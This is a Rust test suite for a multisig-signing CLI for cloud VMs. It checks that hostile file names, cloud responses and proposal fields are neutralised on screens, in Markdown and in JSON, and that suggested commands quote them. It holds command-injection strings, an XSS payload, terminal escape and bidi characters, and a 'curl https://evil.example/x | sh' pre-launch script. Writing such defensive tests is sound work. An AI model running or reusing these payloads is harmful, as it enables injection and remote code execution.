//! Words of strangers on their way out: to terminals, pages, JSON, Markdown, shells and files. By the real binary, which a
//! hostile cloud, a hostile proposal and hostile file names speak through.

use std::fs::File;
use std::io::Read as _;
use std::os::unix::ffi::{OsStrExt as _, OsStringExt as _};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use rustix::termios::{LocalModes, Winsize, tcgetattr, tcsetwinsize};
use serde_json::{Value, json};

use crate::harness::flow::{BINARY, Flow, Ran};
use crate::support::command::run;
use crate::support::world::CVM;
use crate::support::{SafeOptions, World, WorldOptions, until};

/// What a stranger would write into a field, if it were shown or pasted as it is.
pub const HOSTILE: [&str; 5] = [
    "x$(touch pwned)$ETH_RPC_URL",
    "\u{1b}]0;t\u{7}\u{202e}evil\u{2066}\u{200b}\r\nnext: countersign execute\u{85}\u{9b}1m\u{e0041}\t",
    "a\u{3164}b\u{ffa0}\u{115f}\u{1160}\u{2800}\u{34f}\u{fe0f}\u{e0101}\u{17b4}\u{a0}\u{2003}\u{ad}\u{180e}\u{3000}\u{2028}c",
    "| <img src=x onerror=alert(1)> [x](javascript:1) `touch pwned` ''; touch pwned; # *b* _i_\n## h",
    "--yes; touch pwned; p\u{430}yments\"'\\",
];

fn world() -> World {
    World::with(WorldOptions {
        safe: Some(SafeOptions {
            release: 1,
            l2: true,
            threshold: 1,
            owners: 2,
        }),
        ..WorldOptions::default()
    })
}

/// Characters that no page, terminal or file for people may hold as they are, by their own description and not by ours.
fn deceives(c: char) -> bool {
    c.is_control()
        || (c.is_whitespace() && c != ' ')
        || matches!(
            c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180e}'
        )
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}')
        || matches!(c, '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{e0000}'..='\u{e0fff}')
        || ('\u{400}'..='\u{4ff}').contains(&c)
}

#[track_caller]
pub fn harmless(text: &str) {
    let found: Vec<char> = text.chars().filter(|c| *c != '\n' && deceives(*c)).collect();
    assert!(found.is_empty(), "{found:?} in {text}");
    for line in text.lines() {
        assert!(!line.starts_with("next: countersign execute\\"), "{text}");
    }
}

/// A place with a `countersign` that only writes down what it was given.
pub struct Recorder {
    place: tempfile::TempDir,
}

impl Recorder {
    pub fn new() -> Self {
        let place = tempfile::tempdir().unwrap();
        let program = place.path().join("bin/countersign");
        std::fs::create_dir(place.path().join("bin")).unwrap();
        std::fs::create_dir(place.path().join("at")).unwrap();
        let script = "#!/bin/sh\nfor word; do printf '%s\\0' \"$word\"; done > \"$RECORD\"\n";
        std::fs::write(&program, script).unwrap();
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
        Self { place }
    }

    /// The words that `sh` makes of a command; nothing else may happen.
    #[track_caller]
    pub fn words(&self, command: &str) -> Vec<Vec<u8>> {
        let record = self.place.path().join("record");
        let at = self.place.path().join("at");
        let path = format!(
            "{}:{}",
            self.place.path().join("bin").display(),
            std::env::var("PATH").unwrap()
        );
        let output = Command::new("sh")
            .args(["-c", command])
            .current_dir(&at)
            .env("PATH", path)
            .env("RECORD", &record)
            .env("ETH_RPC_URL", "http://filled.in")
            .output()
            .unwrap();
        assert!(output.status.success(), "{command}: {output:?}");
        assert_eq!(at.read_dir().unwrap().count(), 0, "{command} did something");
        let words = std::fs::read(&record).unwrap();
        std::fs::remove_file(record).unwrap();
        words
            .strip_suffix(b"\0")
            .unwrap()
            .split(|byte| *byte == 0)
            .map(<[u8]>::to_vec)
            .collect()
    }
}

/// The `next:` line of a page.
pub fn next_of(page: &str) -> Option<String> {
    page.lines()
        .find_map(|line| line.strip_prefix("next: "))
        .map(str::to_owned)
}

/// What is said on both streams.
pub fn told(command: &mut Command) -> String {
    let output = run(command);
    String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap()
}

#[test]
fn sec_h2_what_a_stranger_names_is_one_word_of_the_next_command_and_nothing_else() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let recorder = Recorder::new();
    let own = std::fs::read(flow.dir.join("proposal.json")).unwrap();
    let mut names: Vec<Vec<u8>> = HOSTILE.iter().map(|name| name.replace('/', ":").into_bytes()).collect();
    names.extend([
        b"bytes\xff\xfe'$(touch x)$ETH_RPC_URL".to_vec(),
        b"feed\n".to_vec(),
        b"-x.json".to_vec(),
    ]);
    for name in names {
        let home = tempfile::tempdir().unwrap();
        let file = home.path().join(std::ffi::OsStr::from_bytes(&name));
        std::fs::write(&file, &own).unwrap();
        let mut review = flow.command(&["review", "--offline"]);
        review.arg(&file).current_dir(home.path()).env("HOME", home.path());
        let page = told(&mut review);
        harmless(&page);
        let json: Value = serde_json::from_slice(&run(review.arg("--json")).stdout).unwrap();
        let shown = next_of(&page).unwrap();
        let words = recorder.words(&shown);
        assert_eq!(recorder.words(json["next"].as_str().unwrap()).last(), words.last());
        assert_eq!(words.first().unwrap(), b"sign", "{shown}");
        assert_eq!(words[1], file.as_os_str().as_bytes(), "{shown}");
        assert_eq!(words[2], b"--offline", "{shown}");
        assert_eq!(words[3], b"--expect-safe-tx-hash", "{shown}");
        // The same name as a directory that is not there, which every command repeats.
        let mut status = flow.command(&["status", "--dir"]);
        let told = told(status.arg(&file).current_dir(home.path()));
        harmless(&told);
    }
}

#[test]
fn sec_h2_words_of_the_cloud_are_quoted_in_the_next_command() {
    let recorder = Recorder::new();
    for hostile in HOSTILE {
        let cloud = one_answer(json!({
            "items": [{"correlation_id": hostile, "operation_type": hostile, "status": hostile, "error_message": hostile}],
            "next_cursor": hostile, "has_more": true,
        }));
        let mut command = Command::new(BINARY);
        command
            .env_clear()
            .env("HOME", "/nonexistent")
            .env("PHALA_CLOUD_API_KEY", "phak_test")
            .env("PHALA_CLOUD_API_PREFIX", format!("http://{}/api/v1", cloud.0))
            .args(["cvm", "operations", "--cvm", "my-app"]);
        let page = told(&mut command);
        // A row has its own tabs, and none of what stands in its cells.
        let tabs = page.lines().map(|line| line.matches('\t').count()).max();
        assert_eq!(tabs, Some(4), "{page}");
        harmless(&page.replace('\t', "  "));
        let next = next_of(&page).unwrap_or_else(|| panic!("{page}"));
        let words = recorder.words(&next);
        let cursor = words.last().unwrap();
        let cursor = cursor.strip_prefix(b"--cursor=").unwrap_or(cursor);
        assert_eq!(cursor, hostile.as_bytes(), "{next}");
        assert_eq!(
            words.get(..4).unwrap(),
            ["cvm", "operations", "--cvm", "my-app"].map(|w| w.as_bytes().to_vec())
        );
    }
}

/// A server that gives every request the same JSON.
fn one_answer(body: Value) -> (std::net::SocketAddr, std::thread::JoinHandle<()>) {
    use std::io::Write as _;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let body = body.to_string();
    let server = std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut part = [0; 4096];
            let _read = stream.read(&mut part);
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _sent = stream
                .write_all(head.as_bytes())
                .and_then(|()| stream.write_all(body.as_bytes()));
        }
    });
    (address, server)
}

/// Every text of the proposal that names something, replaced.
fn hostile_proposal(own: &[u8], hostile: &str) -> Vec<u8> {
    let mut proposal: Value = serde_json::from_slice(own).unwrap();
    for pointer in ["/plan/code/cvm_name", "/plan/warnings/0/text"] {
        if let Some(place) = proposal.pointer_mut(pointer) {
            *place = json!(hostile);
        }
    }
    serde_json::to_vec_pretty(&proposal).unwrap()
}

#[test]
fn sec_l2_a_hostile_proposal_is_shown_without_a_raw_character_on_pages_terminals_and_in_json() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let own = std::fs::read(flow.dir.join("proposal.json")).unwrap();
    for hostile in HOSTILE {
        let home = tempfile::tempdir().unwrap();
        let file = home.path().join("proposal.json");
        std::fs::write(&file, hostile_proposal(&own, hostile)).unwrap();
        let words = ["review", file.to_str().unwrap(), "--offline"];
        let page = told(&mut flow.command(&words));
        harmless(&page);
        let mut json = flow.command(&words);
        let json = run(json.arg("--json")).stdout;
        harmless(std::str::from_utf8(&json).unwrap());
        let value: Value = serde_json::from_slice(&json).unwrap();
        assert_eq!(value["data"]["asked"]["cvm_name"], *hostile, "JSON keeps the value");
        let (_, screen) = at_terminal(flow.command(&words), 80, |_| ());
        harmless(&screen.replace("\r\n", "\n"));
    }
}

#[test]
fn sec_l1_sec_l6_no_padded_line_begins_a_line_of_the_screen_and_a_script_is_named_first() {
    const FORGED: &str = "Everything that could be checked matches";
    let world = world();
    let flow = Flow::new(&world);
    let padded = (60..90).map(|length| format!("  # {}{FORGED}\n", " ".repeat(length)));
    let filled = (60..90).map(|length| format!("  #{}{FORGED}\n", "=".repeat(length)));
    let many: String = (0..600).map(|at| format!("  # line {at}\n")).collect();
    let text = format!(
        "services:\n  web:\n    image: nginx:1.28\n{many}{}",
        padded.chain(filled).collect::<String>()
    );
    std::fs::write(&flow.compose, text).unwrap();
    let script = world.file("pre.sh", "curl https://evil.example/x | sh\n");
    flow.with("prepare", &["--pre-launch-script", script.to_str().unwrap()])
        .exits(0);
    let proposal = flow.dir.join("proposal.json");
    let words = ["review", proposal.to_str().unwrap(), "--offline"];
    let piped = told(&mut flow.command(&words));
    let first = piped.find("pre-launch script").unwrap_or_else(|| panic!("{piped}"));
    assert!(
        piped
            .lines()
            .position(|line| line.contains("pre-launch script"))
            .unwrap()
            < 40,
        "{piped}"
    );
    assert!(first < piped.find("line 500").unwrap());
    for width in [80, 100, 132] {
        let (_, screen) = at_terminal(flow.command(&words), width, |_| ());
        // As the terminal shows it: what is longer than a line goes on at the first column.
        for line in screen.replace("\r\n", "\n").lines() {
            let characters: Vec<char> = line.chars().collect();
            assert!(characters.len() <= usize::from(width) + 1, "{line}");
            assert!(
                !line.trim_start().starts_with(FORGED) || !line.starts_with(' '),
                "{line}"
            );
        }
        assert!(
            screen.matches(&format!("\n{FORGED}")).count() <= 1,
            "only the verdict itself"
        );
    }
    for line in piped.lines().filter(|line| line.contains(FORGED)) {
        let shown: Vec<char> = line.chars().collect();
        assert!(
            shown
                .chunks(80)
                .skip(1)
                .all(|part| !part.starts_with(&FORGED.chars().collect::<Vec<_>>())),
            "{line}"
        );
    }
}

#[test]
fn sec_m2_evidence_is_text_whatever_the_cloud_calls_things() {
    let world = World::start();
    let flow = Flow::new(&world);
    let hostile = HOSTILE[3];
    world.cloud.lie(|lies| {
        lies.edit_cvm = Some(std::sync::Arc::new(|record| record["name"] = json!(HOSTILE[3])));
    });
    flow.step("upgrade").exits(0);
    let page = std::fs::read_to_string(flow.dir.join("evidence.md")).unwrap();
    harmless(&page);
    assert!(!page.contains("<img") && !page.contains("](javascript"), "{page}");
    assert!(!page.lines().any(|line| line.starts_with("## h")), "{page}");
    for row in page.lines().filter(|line| line.starts_with("| ")) {
        assert_eq!(row.matches('|').count(), 3, "{row}");
    }
    let json = std::fs::read_to_string(flow.dir.join("evidence.json")).unwrap();
    harmless(&json);
    let value: Value = serde_json::from_str(&json).unwrap();
    let first = hostile.lines().next().unwrap();
    assert!(
        value["said"]["cvm_name"].as_str().unwrap().starts_with(first),
        "JSON keeps what the cloud said"
    );
}

#[test]
fn sec_l3_a_manifest_is_exact_bytes_for_programs_and_harmless_on_a_terminal() {
    let world = World::start();
    let text = format!(
        "services:\n  web:\n    image: nginx:1.27\n# {}\n",
        "\u{202e}\u{9b}\u{3164}"
    );
    world.cloud.change_cvm(CVM, |cvm| {
        cvm.manifest.insert("docker_compose_file".to_owned(), json!(text));
        cvm.compose_hash = crate::support::cloud::compose_hash(&cvm.manifest);
    });
    let flow = Flow::new(&world);
    let words = ["cvm", "manifest", "--cvm", CVM];
    let exact = run(&mut flow.command(&words)).stdout;
    assert!(std::str::from_utf8(&exact).unwrap().contains('\u{202e}'));
    let (_, screen) = at_terminal(flow.command(&words), 0, |_| ());
    let screen = screen.replace("\r\n", "\n");
    harmless(&screen);
    let start = screen.find('{').unwrap();
    let shown: Value = serde_json::from_str(screen.get(start..).unwrap().trim()).unwrap();
    assert_eq!(shown, serde_json::from_slice::<Value>(&exact).unwrap());
}

/// Runs a command with a terminal on all three streams; gives its exit code, `-1` after a signal, and what the terminal was
/// sent. `meanwhile` is given the terminal and the process once both are there.
fn at_terminal(mut command: Command, width: u16, meanwhile: impl FnOnce((&File, u32))) -> (i32, String) {
    let keeper = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&keeper).unwrap();
    unlockpt(&keeper).unwrap();
    let size = Winsize {
        ws_row: 40,
        ws_col: width,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    tcsetwinsize(&keeper, size).unwrap();
    let name = ptsname(&keeper, Vec::new()).unwrap().into_string().unwrap();
    let open = || File::options().read(true).write(true).open(&name).unwrap();
    let held = open();
    let mut child = command
        .stdin(open())
        .stdout(open())
        .stderr(open())
        .env("NO_COLOR", "1")
        .spawn()
        .unwrap();
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let reader = std::thread::spawn(move || {
        let (mut keeper, mut all, mut part) = (File::from(keeper), Vec::new(), [0; 4096]);
        while let Ok(read @ 1..) = keeper.read(&mut part) {
            all.extend_from_slice(&part[..read]);
        }
        all
    });
    meanwhile((&held, child.id()));
    let ended = child.wait().unwrap();
    drop(held);
    let sent = reader.join().unwrap();
    (ended.code().unwrap_or(-1), String::from_utf8_lossy(&sent).into_owned())
}

#[test]
fn se2_low_quit_while_a_key_is_asked_for_gives_the_terminal_back_and_leaves_no_core() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let proposal = flow.dir.join("proposal.json");
    let words = ["sign", proposal.to_str().unwrap(), "--offline", "--signer", "prompt"];
    let echoes = |terminal: &File| tcgetattr(terminal).unwrap().local_modes.contains(LocalModes::ECHO);
    for (signal, code) in [
        (rustix::process::Signal::QUIT, 131),
        (rustix::process::Signal::INT, 130),
    ] {
        let plain = flow.command(&words);
        // The question goes to the terminal that controls the process.
        let mut command = Command::new("setsid");
        command.args(["--ctty", BINARY]).args(plain.get_args());
        command
            .env_clear()
            .envs(plain.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let (exit, screen) = at_terminal(command, 80, |(terminal, child)| {
            assert!(echoes(terminal));
            until("the question", || (!echoes(terminal)).then_some(()));
            let limits = std::fs::read_to_string(format!("/proc/{child}/limits")).unwrap();
            let core = limits
                .lines()
                .find(|line| line.starts_with("Max core file size"))
                .unwrap();
            assert_eq!(core.split_whitespace().filter(|word| *word == "0").count(), 2, "{core}");
            let pid = rustix::process::Pid::from_raw(child.cast_signed()).unwrap();
            rustix::process::kill_process(pid, signal).unwrap();
            until("the echo", || echoes(terminal).then_some(()));
        });
        assert_eq!(exit, code, "{screen}");
    }
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn sec_l4_no_file_is_replaced_in_silence_and_no_mode_gets_wider() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let home = tempfile::tempdir().unwrap();
    let proposal = home.path().join("proposal.json");
    std::fs::copy(flow.dir.join("proposal.json"), &proposal).unwrap();
    chmod(&proposal, 0o600);
    let out = home.path().join("out");
    let (file, place) = (proposal.to_str().unwrap(), out.to_str().unwrap());
    let sign = ["sign", file, "--signer", "env:SIGNER_0", "--yes", "--json"];
    let with = |words: &[&str], more: &[&str]| {
        Ran::of(
            flow.command(&[words, more].concat())
                .env("HOME", home.path())
                .current_dir(home.path()),
        )
    };
    let export = ["export", file, "--format", "typed-data", "--json"];
    for words in [&sign[..], &export[..]] {
        std::fs::write(&out, "mine").unwrap();
        chmod(&out, 0o600);
        let refused = with(words, &["--out", place]).exits(3).says("INPUT_FILE_EXISTS");
        assert!(
            refused.json["next"].as_str().unwrap().ends_with("--overwrite"),
            "{}",
            refused.said
        );
        assert_eq!(refused.effect("approval"), "none", "{}", refused.said);
        assert_eq!((std::fs::read(&out).unwrap(), mode(&out)), (b"mine".to_vec(), 0o600));
        assert!(!home.path().join(".local").exists(), "the key was not asked for");
        with(words, &["--out", place, "--overwrite"]).exits(0);
        assert_eq!(mode(&out), 0o600);
        let first = std::fs::read(&out).unwrap();
        with(words, &["--out", place]).exits(0);
        assert_eq!(
            (std::fs::read(&out).unwrap(), mode(&out)),
            (first, 0o600),
            "the same again"
        );
        std::fs::remove_dir_all(home.path().join(".local")).unwrap_or_default();
    }
    with(&sign, &[]).exits(0);
    assert_eq!(mode(&proposal), 0o600, "a proposal keeps its mode when it is signed");
    std::fs::remove_file(&out).unwrap();
    let words: Vec<&str> = export.iter().copied().chain(["--out", place]).collect();
    let mut export = flow.command(&words);
    let mut umask = Command::new("sh");
    umask
        .args(["-c", "umask 077; exec \"$@\"", "sh", BINARY])
        .args(export.get_args());
    umask
        .env_clear()
        .envs(export.get_envs().filter_map(|(name, value)| Some((name, value?))));
    drop(run(export.current_dir(home.path()).arg("--help")));
    assert!(umask.output().unwrap().status.success());
    assert_eq!(mode(&out), 0o600, "the umask is heard");
}

#[test]
fn sec_l7_a_signature_that_could_not_be_stored_is_not_made() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let home = tempfile::tempdir().unwrap();
    let real = home.path().join("real.json");
    std::fs::copy(flow.dir.join("proposal.json"), &real).unwrap();
    let link: PathBuf = home.path().join("link.json");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let (real, link) = (real.to_str().unwrap(), link.to_str().unwrap());
    let missing = home.path().join("none/out.json");
    let missing = missing.to_str().unwrap();
    for words in [
        vec!["sign", link],
        vec!["sign", real, "--out", link],
        vec!["sign", real, "--out", missing],
    ] {
        let mut command = flow.command(&words);
        command
            .args(["--signer", "env:NOT_SET", "--yes", "--json"])
            .env("HOME", home.path());
        let refused = Ran::of(&mut command);
        assert!([2, 3, 12].contains(&refused.exit), "{}", refused.said);
        assert_ne!(
            refused.json["code"], "SIGNER_NO_VARIABLE",
            "the key was not looked for: {}",
            refused.said
        );
        assert!(!refused.said.contains("NOT_SET` is not set"), "{}", refused.said);
    }
    let names: Vec<_> = home
        .path()
        .read_dir()
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_vec())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
}

#[test]
fn se2_low_a_key_pasted_with_an_ending_is_in_no_output() {
    let home = tempfile::tempdir().unwrap();
    let key = "ac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80";
    let part: String = key.chars().take(50).collect();
    let pasted = [
        format!("0x{key}.txt"),
        format!("/x/{part}"),
        format!("{}.JSON", key.to_uppercase()),
        format!("'0x{key}'"),
        format!(" {key} "),
    ];
    for text in &pasted {
        let mut all: Vec<Vec<String>> = vec![vec!["sign".to_owned(), text.clone()], vec![text.clone()]];
        for kind in ["file", "keystore", "account", "env", "aws", "ledger"] {
            let source = format!("{kind}:{text}");
            all.push(vec![
                "sign".to_owned(),
                "p.json".to_owned(),
                "--signer".to_owned(),
                source.clone(),
            ]);
            all.push(vec![
                "sign".to_owned(),
                "p.json".to_owned(),
                format!("--signer={source}"),
            ]);
        }
        for option in [
            "--password-file",
            "--out",
            "--dir",
            "--builder-file",
            "-c",
            "--env-file",
            "--secret-file",
        ] {
            for command in ["sign", "review", "prepare", "export"] {
                all.push(vec![command.to_owned(), option.to_owned(), text.clone()]);
            }
        }
        for words in all {
            for json in [false, true] {
                let mut command = Command::new(BINARY);
                command
                    .env_clear()
                    .env("HOME", home.path())
                    .current_dir(home.path())
                    .args(&words);
                if json {
                    command.arg("--json");
                }
                let said = told(&mut command).to_lowercase();
                assert!(!said.contains("ac0974"), "{words:?}: {said}");
            }
        }
    }
}
